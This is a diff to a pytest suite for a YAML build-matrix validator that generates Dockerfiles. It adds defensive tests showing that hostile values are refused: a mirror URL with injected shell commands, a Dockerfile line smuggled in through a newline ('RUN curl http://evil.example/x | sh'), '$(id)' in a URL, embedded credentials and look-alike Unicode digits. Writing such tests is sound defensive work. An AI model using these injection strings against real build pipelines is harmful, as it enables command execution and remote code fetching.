@@ -166,7 +166,7 @@ def test_badly_formed_value_shows_the_expected_pattern(report: Report, data: dic
     data["cuda"]["11.8"]["min_driver"] = "520"
     assert report(data) == (
         "error: matrix.yaml: cuda.\"11.8\".min_driver: '520' is not well formed "
-        r"(allowed: text matching ^\d+\.\d+(\.\d+)?$)"
+        r"(allowed: text matching ^[0-9]+\.[0-9]+(\.[0-9]+)?$)"
     )
 
 
@@ -178,10 +178,14 @@ def test_value_outside_a_fixed_choice(report: Report, data: dict[str, Any]) -> N
     )
 
 
-def test_a_number_where_text_is_expected_says_to_quote_it(report: Report) -> None:
-    # Only an explicit tag can make a number: the loader reads plain scalars such as 3.10 as text.
+def test_an_explicit_tag_that_would_make_a_number_is_refused(report: Report) -> None:
+    # The loader reads plain scalars such as 3.10 as text; an explicit tag is the only way to make a number, and
+    # explicit tags are refused outright (PyYAML's own constructors for them crash on hostile values).
     text = MATRIX_TEXT.replace('python: ["3.8", "3.10", "3.11"]', 'python: ["3.8", !!float 3.10, "3.11"]', 1)
-    assert report(text) == "error: matrix.yaml: axes.python[1]: expected text, got the number 3.1 (allowed: quote it)"
+    line = next(i for i, row in enumerate(text.splitlines(), 1) if "!!float" in row)
+    assert report(text) == (
+        f"error: matrix.yaml:{line}: explicit YAML tags are not allowed (found !!float); write the value plainly"
+    )
 
 
 def test_other_schema_problems_quote_the_offending_value(report: Report, data: dict[str, Any]) -> None:
@@ -337,3 +341,171 @@ def test_load_matrix_names_the_file_it_read(tmp_path: Path) -> None:
         load_matrix(path)
     assert caught.value.report().startswith("error: matrix.yaml: release: '0.9' is not well formed")
     assert load_matrix(FIXTURE_MATRIX).release == "v0.9"
+
+
+# --- Hostile values (issue 8): nothing that could change a Dockerfile, a shell command or leak a secret --------
+
+INJECTING_MIRROR = "http://x/;echo${IFS}INJECTED>/dev/stderr;id>/dev/stderr;#e"
+URL_ALLOWED = "http(s)://host[:port]/path with letters, digits and . _ ~ + = , - / %XX"
+SHELL_CHARACTER = "has ';' in its path (query strings, fragments and shell characters are not allowed)"
+CREDENTIALS = "carries credentials (user:password@): give them with --netrc FILE (a BuildKit secret) instead"
+_URL_FIELDS = [
+    ("mirrors", "campus", "apt", "ubuntu"),
+    ("mirrors", "campus", "apt", "debian"),
+    ("mirrors", "campus", "apt", "debian_security"),
+    ("mirrors", "campus", "pypi"),
+    ("mirrors", "cloud", "pytorch_wheels"),
+    (*_PYTORCH_211_CU118, "index_url"),
+    ("frameworks", "pytorch", "releases", "1.7.1", "variants", "11.0", "find_links"),
+]
+
+
+def _where(path: tuple[str, ...]) -> str:
+    return ".".join(f'"{key}"' if "." in key else key for key in path)
+
+
+def _set(data: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
+    node = data
+    for key in path[:-1]:
+        node = node[key]
+    node[path[-1]] = value
+
+
+@pytest.mark.parametrize("path", _URL_FIELDS, ids=[".".join(p[-2:]) for p in _URL_FIELDS])
+def test_a_url_with_shell_characters_is_refused(report: Report, data: dict[str, Any], path: tuple[str, ...]) -> None:
+    _set(data, path, INJECTING_MIRROR)
+    allowed = URL_ALLOWED + (" and {variant}" if path[-1] == "pytorch_wheels" else "")
+    assert report(data) == f"error: matrix.yaml: {_where(path)}: the URL {SHELL_CHARACTER} (allowed: {allowed})"
+
+
+@pytest.mark.parametrize("path", _URL_FIELDS, ids=[".".join(p[-2:]) for p in _URL_FIELDS])
+def test_a_url_with_credentials_is_refused_with_the_netrc_advice(
+    report: Report, data: dict[str, Any], path: tuple[str, ...]
+) -> None:
+    suffix = "/{variant}/" if path[-1] == "pytorch_wheels" else "/simple"
+    _set(data, path, f"https://builder:s3cret-token@private.example.org{suffix}")
+    text = report(data)
+    allowed = URL_ALLOWED + (" and {variant}" if path[-1] == "pytorch_wheels" else "")
+    assert text == f"error: matrix.yaml: {_where(path)}: the URL {CREDENTIALS} (allowed: {allowed})"
+    assert "s3cret-token" not in text  # the secret is never printed back
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ("cuda", "11.8", "source"),
+        ("os", "debian12", "source"),
+        ("nvidia_cuda", "source"),
+        ("frameworks", "pytorch", "releases", "2.1.2", "source"),
+        ("frameworks", "pytorch", "releases", "2.1.2", "python_source"),
+        ("mirrors", "cloud", "source"),
+    ],
+)
+def test_documentation_links_may_have_a_fragment_but_no_shell_characters(
+    parse: Parse, report: Report, data: dict[str, Any], path: tuple[str, ...]
+) -> None:
+    _set(data, path, "https://docs.example.org/notes/index.html#section-2")
+    parse(data)
+    _set(data, path, "https://docs.example.org/notes/$(id)")
+    assert report(data) == (
+        f"error: matrix.yaml: {_where(path)}: the URL has '$' in its path (query strings, fragments and shell "
+        f"characters are not allowed) (allowed: {URL_ALLOWED}, then an optional #fragment)"
+    )
+
+
+@pytest.mark.parametrize("field", ["{other}", "{0}", "{variant.real}", "{variant}{x}"])
+def test_pytorch_wheels_allows_no_format_field_but_variant(report: Report, data: dict[str, Any], field: str) -> None:
+    # These made str.format raise KeyError, IndexError or AttributeError (a traceback) during a build or dry run.
+    data["mirrors"]["cloud"]["pytorch_wheels"] = f"https://cloud.example.net/pytorch-wheels/{field}/"
+    assert report(data) == (
+        "error: matrix.yaml: mirrors.cloud.pytorch_wheels: the URL has a format field other than {variant}, the "
+        f"only placeholder allowed (allowed: {URL_ALLOWED} and {{variant}})"
+    )
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "ubuntu:22.04\nRUN curl http://evil.example/x | sh",
+        "ubuntu:22.04\nUSER root",
+        "ubuntu:22.04 AS x",
+        "ubuntu:22.04\r\nRUN id",
+        "--help",
+        "Ubuntu:22.04",
+    ],
+    ids=["newline-run", "newline-user", "as-stage", "carriage-return", "option", "upper-case"],
+)
+def test_an_os_image_must_be_an_image_reference(report: Report, data: dict[str, Any], image: str) -> None:
+    data["os"]["ubuntu22.04"]["image"] = image
+    lines = report(data).splitlines()
+    assert len(lines) == 1, lines
+    assert lines[0].startswith('error: matrix.yaml: os."ubuntu22.04".image: the image reference ')
+    assert lines[0].endswith("(allowed: [registry[:port]/]repository[:tag][@sha256:...])")
+
+
+def test_the_nvidia_repository_must_be_a_repository_without_a_tag(report: Report, data: dict[str, Any]) -> None:
+    allowed = "(allowed: [registry[:port]/]repository, e.g. nvidia/cuda)"
+    data["nvidia_cuda"]["repository"] = "nvidia/cuda\nUSER root"
+    assert report(data) == (
+        "error: matrix.yaml: nvidia_cuda.repository: the repository has whitespace or characters outside "
+        f"printable ASCII {allowed}"
+    )
+    data["nvidia_cuda"]["repository"] = "nvidia/cuda:latest"
+    assert report(data) == (
+        "error: matrix.yaml: nvidia_cuda.repository: the repository has a :tag or @digest; give the repository "
+        f"alone (each cell adds its own tag) {allowed}"
+    )
+
+
+def test_one_problem_per_bad_key_path(report: Report, data: dict[str, Any]) -> None:
+    data["os"]["ubuntu20.04"]["image"] = "ubuntu:20.04\nRUN id"
+    data["os"]["debian12"]["image"] = "dlimages/base:debian12 AS base"
+    data["nvidia_cuda"]["repository"] = "nvidia/cuda\nUSER root"
+    data["mirrors"]["campus"]["apt"]["debian"] = INJECTING_MIRROR
+    data["mirrors"]["cloud"]["pypi"] = "https://u:p@cloud.example.net/pypi/simple/"
+    wheres = [line.split(": ")[2] for line in report(data).splitlines()]
+    assert wheres == [
+        'os."ubuntu20.04".image',
+        "os.debian12.image",
+        "nvidia_cuda.repository",
+        "mirrors.campus.apt.debian",
+        "mirrors.cloud.pypi",
+    ]
+
+
+# Arabic-Indic, fullwidth and Devanagari digits: Python's \d (and pydantic's Rust regex) match them, int() reads them.
+_FOREIGN_DIGITS = {"arabic-indic": "\u0663.\u0661", "fullwidth": "\uff13.\uff11", "devanagari": "\u0969.\u0967"}
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "pattern"),
+    [
+        (("release",), "v{}", r"^v[0-9]+(\.[0-9]+)*$"),
+        (("cuda", "11.8", "toolkit"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
+        (("cuda", "11.8", "min_driver"), "{}", r"^[0-9]+\.[0-9]+(\.[0-9]+)?$"),
+        (("packages", "pip"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
+        (("packages", "default", "numpy"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
+        (("os", "debian12", "python"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
+        (("frameworks", "pytorch", "releases", "2.1.2", "companions", "torchvision"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
+    ],
+    ids=["release", "toolkit", "min_driver", "pip", "package-pin", "os-python", "companion"],
+)
+@pytest.mark.parametrize("digits", _FOREIGN_DIGITS.values(), ids=_FOREIGN_DIGITS.keys())
+def test_versions_take_ascii_digits_only(
+    report: Report, data: dict[str, Any], path: tuple[str, ...], value: str, pattern: str, digits: str
+) -> None:
+    _set(data, path, value.format(digits))
+    assert report(data) == (
+        f"error: matrix.yaml: {_where(path)}: {value.format(digits)!r} is not well formed "
+        f"(allowed: text matching {pattern})"
+    )
+
+
+def test_architectures_and_names_take_ascii_only(report: Report, data: dict[str, Any]) -> None:
+    data["cuda"]["11.8"]["gpu_archs"][-1] = "sm_\u0669\u0660"
+    data["axes"]["flavor"][1] = "d\u0435vel"  # Cyrillic e
+    lines = report(data).splitlines()
+    assert [line.split(": ")[2] for line in lines] == [
+        "axes.flavor[1]",
+        'cuda."11.8".gpu_archs[' + str(len(data["cuda"]["11.8"]["gpu_archs"]) - 1) + "]",
+    ]
